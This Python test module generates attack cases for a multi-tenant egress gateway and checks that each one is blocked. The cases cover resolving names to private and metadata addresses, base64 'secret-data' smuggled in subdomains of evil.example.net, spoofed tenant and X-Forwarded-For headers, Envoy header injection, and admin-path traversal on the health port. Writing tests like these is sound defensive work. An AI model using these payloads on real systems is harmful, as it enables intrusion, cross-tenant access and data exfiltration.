"""Listed names that lead where none may, other tenants, and ports beside the doors."""

from __future__ import annotations

from collections.abc import Iterator

from tests.network.gateway.attacks.attack import (
    ADDRESSES,
    CODEC,
    HEADERS,
    NO_ADDRESS,
    OK,
    OK_443,
    PLAIN,
    ROUTES,
    SAME_NAME,
    Attack,
)
from tests.network.gateway.steps import (
    answered,
    api,
    connect,
    direct,
    plain,
    raw,
    request,
    tunnelled,
)
from tests.network.laboratory import names


def addresses() -> Iterator[Attack]:
    """Names that are listed, and lead where no name may."""
    for word in names.PRIVATE:
        host = f"to-{word}.example.org"
        yield Attack(
            name=f"a listed name that leads to {word}, plain", wall=ADDRESSES, steps=plain(host)
        )
        yield Attack(
            name=f"a listed name that leads to {word}, by CONNECT",
            wall=NO_ADDRESS,
            steps=tunnelled(f"{host}:443", host),
        )
    for word in names.PRIVATE_V6:
        host = f"to-{word}.example.org"
        yield Attack(
            name=f"a listed name that leads to {word}, plain", wall=NO_ADDRESS, steps=plain(host)
        )
    for word in ("metadata", "own"):
        host = f"in-{word}.example.org"
        yield Attack(
            name=f"an inspected name that leads to {word}",
            wall=ADDRESSES,
            door="tls",
            steps=direct(host, host),
        )
        yield Attack(
            name=f"a listed name that leads to {word}, by TLS",
            wall=NO_ADDRESS,
            door="tls",
            steps=direct(f"to-{word}.example.org"),
        )
    yield Attack(
        name="a listed name with a dead address before a private one",
        wall="unreachable",
        steps=plain("dead-first.example.org"),
    )
    yield Attack(
        name="the private way to an address that isn't the owner's",
        wall="address rule",
        tenant="builder",
        steps=tunnelled("to-ten.example.org:443", "to-ten.example.org"),
    )
    yield Attack(
        name="the private way to an address that isn't the owner's, plain",
        wall=ADDRESSES,
        tenant="builder",
        steps=plain("to-ten.example.org"),
    )
    yield Attack(
        name="data in names that the gateway would look up",
        wall=SAME_NAME,
        steps=tunnelled(OK_443, "c2VjcmV0LWRhdGE.evil.example.net"),
    )
    yield Attack(
        name="data in names, by CONNECT",
        wall=ROUTES,
        steps=connect("c2VjcmV0LWRhdGE.evil.example.net:443"),
    )
    yield Attack(
        name="data in names, by TLS",
        wall=ROUTES,
        door="tls",
        steps=direct("c2VjcmV0LWRhdGE.evil.example.net"),
    )


def identities() -> Iterator[Attack]:
    theirs = "only-other.example.org"
    for kind, header in (
        ("the tenant's header", "x-corral-tenant: other"),
        ("the tenant's header in capitals", "X-CORRAL-TENANT: other"),
        ("the tenant's header twice", "x-corral-tenant: other\r\nx-corral-tenant: other"),
        ("a list in the tenant's header", "x-corral-tenant: other,acme"),
        ("X-Forwarded-For", "X-Forwarded-For: 127.0.0.1"),
        ("the tenant's header, to be dropped on the way", "Connection: close, x-corral-tenant"),
    ):
        yield Attack(
            name=f"another tenant's host with {kind}", wall=ROUTES, steps=plain(theirs, "/", header)
        )
        yield Attack(
            name=f"CONNECT to another tenant's host with {kind}",
            wall=ROUTES,
            steps=connect(f"{theirs}:443", header),
        )
    yield Attack(
        name="the tenant's header with underscores",
        wall=CODEC,
        steps=plain(theirs, "/", "x_corral_tenant: other"),
    )
    for header in (
        "x-corral-tenant: other",
        "X-Forwarded-For: 6.6.6.6",
        "x-envoy-retry-on: 5xx",
        "x-envoy-original-path: /admin",
    ):
        name = header.partition(":")[0]
        yield Attack(
            name=f"{name} sent on to a host",
            wall=HEADERS,
            hidden=header.partition(" ")[2],
            reaches=(f"GET {PLAIN} /",),
            steps=plain(PLAIN, "/", header),
        )
        yield Attack(
            name=f"{name} sent on to an inspected host",
            wall=HEADERS,
            hidden=header.partition(" ")[2],
            reaches=("POST api.example.org /v1/x",),
            steps=api("/v1/x", header),
        )
    yield Attack(
        name="retries that multiply a request",
        wall=HEADERS,
        hidden="retry",
        reaches=(f"GET {PLAIN} /busy",),
        steps=plain(PLAIN, "/busy", "x-envoy-retry-on: 5xx", "x-envoy-max-retries: 9"),
    )
    for tenant in ("unlisted", "other"):
        yield Attack(
            name=f"a host that isn't on the list of {tenant}",
            wall=ROUTES,
            tenant=tenant,
            steps=connect(OK_443),
        )
        yield Attack(
            name=f"TLS for a host that isn't on the list of {tenant}",
            wall=ROUTES,
            tenant=tenant,
            door="tls",
            steps=direct(OK),
        )


HEALTH = "127.0.0.1:9902"


def beside() -> Iterator[Attack]:
    """Ports beside the doors."""
    for target in (
        "/config_dump",
        "/quitquitquit",
        "/",
        "/stats",
        "/ready/../config_dump",
        "/ready/..;/config_dump",
        "/logging?level=trace",
        "/certs",
        "//ready",
    ):
        yield Attack(
            name=f"{target} of the administration at the health port",
            wall="health routes",
            door=HEALTH,
            steps=answered("x", target),
            shows="404 Not Found",
        )
    yield Attack(
        name="POST at the health port",
        wall="health routes",
        door=HEALTH,
        steps=answered("x", "/ready", "content-length: 0", method="POST"),
        shows="404 Not Found",
    )
    yield Attack(
        name="CONNECT at the health port",
        wall="health routes",
        door=HEALTH,
        steps=connect(OK_443),
        shows="404 Not Found",
    )
    yield Attack(
        name="the control plane without a certificate",
        wall="mutual TLS",
        door=f"127.0.0.1:{names.CONTROL_PORT}",
        shows="('closed', ['tls None', ''])",
        steps=[["tls", names.CONTROL_HOST], *raw(request("x", "/corefiles"))],
    )
    yield Attack(
        name="a port of no tenant",
        wall="nobody listens",
        door="127.0.0.1:10400",
        steps=connect(OK_443),
    )
    yield Attack(
        name="the resolver's port at the gateway",
        wall="nobody listens",
        door="127.0.0.1:10002",
        steps=connect(OK_443),
    )
    yield Attack(
        name="the administration's port",
        wall="nobody listens",
        door="127.0.0.1:9901",
        steps=plain("x", "/config_dump"),
    )
